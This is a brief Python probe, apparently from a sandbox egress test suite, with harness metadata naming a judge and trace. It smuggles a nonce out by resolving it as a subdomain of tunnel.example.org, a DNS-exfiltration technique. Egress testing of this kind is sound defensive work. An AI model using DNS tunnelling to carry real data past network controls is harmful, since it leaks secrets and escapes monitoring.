"""Hides data in a name and asks the resolver for it.

family: network
arguments: {nonce}
judge: hit resolver {nonce}
trace: example.org, {nonce}
"""

import socket
import sys

try:
    print(socket.getaddrinfo(sys.argv[1] + ".tunnel.example.org", 80))
except OSError as error:
    print(error)
